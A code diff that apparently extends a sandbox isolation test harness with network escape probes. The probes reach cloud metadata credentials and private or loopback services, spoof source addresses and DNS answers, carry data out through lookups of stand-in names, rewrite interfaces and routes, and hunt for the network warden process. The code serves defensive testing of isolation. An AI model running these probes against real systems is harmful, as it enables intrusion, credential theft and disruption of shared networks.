@@ -29,6 +29,8 @@ FACTS: dict[str, Any] = {}
 """What the test on the host prepared: see ``test_isolation``."""
 ATTACKS: dict[str, Callable[[], str | None]] = {}
 BOMBS: dict[str, Callable[[], str | None]] = {}
+WIRED: dict[str, Callable[[], str | None]] = {}
+"""Of a session that has a network: see ``test_network_attacks``."""
 NEEDS: dict[str, str] = {}
 """Attack or bomb → the limit that holds it (``RuntimeFacts``), where not every machine has it."""
 LIBC = ctypes.CDLL(None, use_errno=True)
@@ -71,6 +73,11 @@ def attack(function: Attack) -> Attack:
 
 def bomb(function: Attack) -> Attack:
     BOMBS[function.__name__] = function
+    return function
+
+
+def wired(function: Attack) -> Attack:
+    WIRED[function.__name__] = function
     return function
 
 
@@ -1240,6 +1247,246 @@ def write_output_without_end() -> str | None:
     return None
 
 
+# -- with a network ------------------------------------------------------------------------------
+
+
+def answered(link: socket.socket, to: tuple[str, int], data: bytes = b"echo") -> bool:
+    """Whether what was sent by UDP came back."""
+    with contextlib.suppress(OSError):
+        link.settimeout(0.5)
+        link.sendto(data, to)
+        return bool(link.recv(4096))
+    return False
+
+
+def reached(hosts: list[str], *ports: int) -> str | None:
+    """Which of them took a connection, or answered by UDP."""
+    found = []
+    for host in hosts:
+        found += [f"{host}:{port}" for port in ports if connects(socket.AF_INET, (host, port))]
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
+            found += [f"{host}:{p}/udp" for p in FACTS["echoes"] if answered(link, (host, p))]
+    return ", ".join(found) or None
+
+
+@wired
+def reach_the_machine_s_services() -> str | None:
+    """Databases and administration that trust the machine's neighbours."""
+    return reached(FACTS["machine"], FACTS["machine_port"])
+
+
+@wired
+def reach_the_machine_s_loopback_by_the_wire() -> str | None:
+    """Services that listen on 127.0.0.1 because nobody else can reach it."""
+    with socket.socket() as link:
+        link.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+        link.settimeout(1)
+        link.connect(("127.0.0.1", FACTS["machine_port"]))
+        return "connected"
+
+
+@wired
+def read_metadata() -> str | None:
+    """The machine's credentials for its cloud."""
+    return reached(["169.254.169.254", "169.254.170.2"], 80)
+
+
+@wired
+def reach_private_addresses() -> str | None:
+    """Printers, file servers and other people's machines behind the same wall."""
+    return reached(FACTS["private"], 80)
+
+
+@wired
+def reach_another_session_by_its_address() -> str | None:
+    """Its services, which it thinks nobody else can reach."""
+    return reached([FACTS["victim"]], FACTS["victim_port"])
+
+
+@wired
+def reach_what_is_not_allowed() -> str | None:
+    """The internet, from a session that may reach one site of it."""
+    return reached(FACTS["not_allowed"], 80, 443)
+
+
+@wired
+def speak_to_everybody() -> str | None:
+    """Neighbours answer broadcasts and multicasts, printers and routers first."""
+    found = []
+    for host in ("255.255.255.255", "224.0.0.1", "239.255.255.250", FACTS["broadcast"]):
+        with contextlib.suppress(OSError), socket.socket(2, socket.SOCK_DGRAM) as link:
+            link.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+            link.sendto(b"echo", (host, 7))
+            found.append(host)
+    return ", ".join(found) or None
+
+
+@wired
+def send_from_another_address() -> str | None:
+    """What we do is said to be done by another session; answers to it come to us."""
+    found = []
+    for option in (15, 19):  # IP_FREEBIND, IP_TRANSPARENT
+        for source in (FACTS["victim"], FACTS["open"], FACTS["machine"][0]):
+            with contextlib.suppress(OSError), socket.socket(2, socket.SOCK_DGRAM) as link:
+                link.setsockopt(socket.IPPROTO_IP, option, 1)
+                link.bind((source, 0))
+                link.sendto(b"echo", (FACTS["open"], FACTS["echoes"][0]))
+                found.append(f"{source} by option {option}")
+    return ", ".join(found) or None
+
+
+@wired
+def choose_the_way() -> str | None:
+    """Routers that obey a source route carry us past a list of addresses."""
+    hop, target = socket.inet_aton(FACTS["open"]), socket.inet_aton(FACTS["private"][0])
+    found = []
+    for kind in (131, 137):  # Loose, strict.
+        with contextlib.suppress(OSError), socket.socket(2, socket.SOCK_DGRAM) as link:
+            link.setsockopt(0, socket.IP_OPTIONS, bytes([kind, 11, 4]) + hop + target + b"\0")
+            link.sendto(b"echo", (FACTS["private"][0], FACTS["echoes"][0]))
+            found.append(str(kind))
+    return ", ".join(found) or None
+
+
+@wired
+def play_with_the_wire() -> str | None:
+    """Forged ARP, false packets, other people's packets."""
+    found = []
+    for family, kind, protocol in ((17, 3, 0x0300), (17, 2, 0x0608), (2, 3, 255), (2, 3, 1)):
+        with contextlib.suppress(OSError):
+            socket.socket(family, kind, protocol).close()
+            found.append(str((family, kind, protocol)))
+    return ", ".join(found) or None
+
+
+@wired
+def change_our_own_network() -> str | None:
+    """No rules, no limit of bandwidth, somebody else's address."""
+    found = []
+    with contextlib.suppress(OSError):
+        socket.socket(16, 3, 12).close()
+        found.append("nftables")
+    with socket.socket(16, 3, 0) as link:  # Open to all, to look.
+        index = socket.if_nametoindex("eth0")
+        changes = {
+            "link": (16, struct.pack("=BxHiII", 0, 0, index, 0, 1)),
+            "address": (20, struct.pack("=BBBBi", 2, 24, 0, 0, index) + b"\x08\0\2\0\x0a\0\0\1"),
+            "route": (26 - 2, struct.pack("=8BI", 2, 0, 0, 0, 254, 3, 253, 1, 0)),
+            "queue": (37, struct.pack("=BxxxiIII", 0, index, 0, 0xFFFFFFFF, 0)),
+        }
+        for name, (number, body) in changes.items():
+            link.send(struct.pack("=IHHII", 16 + len(body), number, 0x405, 1, 0) + body)
+            if not int.from_bytes(link.recv(4096)[16:20], "little"):
+                found.append(name)
+    with socket.socket() as link:
+        for number in (0x8914, 0x8916, 0x8922, 0x8924):  # Flags, address, MTU, hardware address.
+            with contextlib.suppress(OSError):
+                fcntl.ioctl(link, number, struct.pack("16sHxxI16x", b"eth0", 2, 0x0A0A0A0A))
+                found.append(hex(number))
+    for path in ("ipv4/ip_forward", "ipv6/conf/all/disable_ipv6", "ipv4/conf/eth0/forwarding"):
+        with contextlib.suppress(OSError), open(f"/proc/sys/net/{path}", "w") as file:
+            file.write("1")
+            found.append(path)
+    return ", ".join(found) or None
+
+
+@wired
+def leave_by_ipv6() -> str | None:
+    """A second network, which nobody thought of."""
+    index, found = socket.if_nametoindex("eth0"), []
+    for host in ("2001:db8::1", "fe80::1", "ff02::1", "::ffff:" + FACTS["private"][0]):
+        with contextlib.suppress(OSError), socket.socket(10, socket.SOCK_DGRAM) as link:
+            link.sendto(b"echo", (host, 7, 0, index))
+            found.append(host)
+    return ", ".join(found) or None
+
+
+@wired
+def ask_other_name_servers() -> str | None:
+    """Names are a way out: what is asked for can carry data, and answers too."""
+    question = bytes.fromhex("000101000001000000000000") + b"\4good\7example\0\0\1\0\1"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
+        if answered(link, (FACTS["resolver"], 53), question):
+            return "by UDP"
+    return "by TCP" if connects(socket.AF_INET, (FACTS["resolver"], 53)) else None
+
+
+@wired
+def carry_data_out_by_names() -> str | None:
+    """Whoever runs a name server reads what is looked up there."""
+    found = []
+    names = ["secret.other.example", "other.example", "secret.good.example.other.example"]
+    names += ["xgood.example", "good.example.", "good\\.example.other.example"]
+    for name in names:
+        with contextlib.suppress(OSError):
+            if socket.gethostbyname(name) and name.rstrip(".") != "good.example":
+                found.append(name)
+    return ", ".join(found) or None
+
+
+@wired
+def point_a_name_at_what_is_forbidden() -> str | None:
+    """An allowed name whose owner answers with an address behind the wall."""
+    with contextlib.suppress(OSError):
+        socket.gethostbyname_ex("evil.example")
+    return reached([*FACTS["private"], *FACTS["machine"]], 80, FACTS["machine_port"])
+
+
+@wired
+def forge_answers_to_the_warden() -> str | None:
+    """It believes that an allowed name has the address that we like to reach."""
+    address = socket.inet_aton(FACTS["not_allowed"][0])
+    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + address
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
+        for number in range(2000):
+            head = struct.pack("!HHHHHH", number, 0x8180, 1, 1, 0, 0)
+            name = b"\4good\7example\0\0\1\0\1"
+            with contextlib.suppress(OSError):
+                link.sendto(head + name + record, ("127.0.0.53", 53))
+    return reached(FACTS["not_allowed"][:1], 80)
+
+
+@wired
+def speak_other_protocols() -> str | None:
+    """Rules that look at TCP and UDP alone."""
+    found = []
+    for kind, protocol in ((2, 136), (1, 132), (5, 132), (6, 33), (2, 1)):
+        with contextlib.suppress(OSError), socket.socket(2, kind, protocol) as link:
+            link.settimeout(0.5)
+            link.connect((FACTS["private"][0], 80))
+            link.send(b"\x08\0\0\0\0\0\0\0" if protocol == 1 else b"echo")
+            found.append(str(protocol))
+    return ", ".join(found) or None
+
+
+@wired
+def fill_the_table_of_connections() -> str | None:
+    """Nobody on the machine can connect any more: its table holds so many (the test counts)."""
+    refused = 0
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
+        for port in range(1, 9000):
+            try:
+                link.sendto(b"x", (FACTS["open"], port))
+            except PermissionError:
+                refused += 1
+            except OSError:
+                continue
+    return None if refused > 2000 else f"only {refused} of 9000 were refused"
+
+
+@wired
+def find_the_warden() -> str | None:
+    """It may change the rules: stop it, or make it do so."""
+    found = []
+    for pid in filter(str.isdecimal, os.listdir("/proc")):
+        with contextlib.suppress(OSError):
+            with open(f"/proc/{pid}/comm") as file:
+                found += [pid] * file.read().startswith("madang-network")
+    for name in os.listdir("/"):
+        found += [name] * name.startswith("network.")
+    return ", ".join(found) or None
+
+
 def attempt(function: Callable[[], str | None]) -> str | None:
     """In a child of its own: whatever it does to itself, the next one is not affected."""
     reader, writer = os.pipe()
@@ -1266,6 +1513,10 @@ def attempt(function: Callable[[], str | None]) -> str | None:
 
 def main() -> None:
     FACTS.update(json.loads(sys.argv[1]))
+    if len(sys.argv) > 2 and sys.argv[2] == "wired":
+        for name in FACTS["attacks"]:
+            print(json.dumps([name, attempt(WIRED[name])]), flush=True)
+        return
     if len(sys.argv) > 2:
         print("\ngained", json.dumps(BOMBS[sys.argv[2]]()), flush=True)
         return
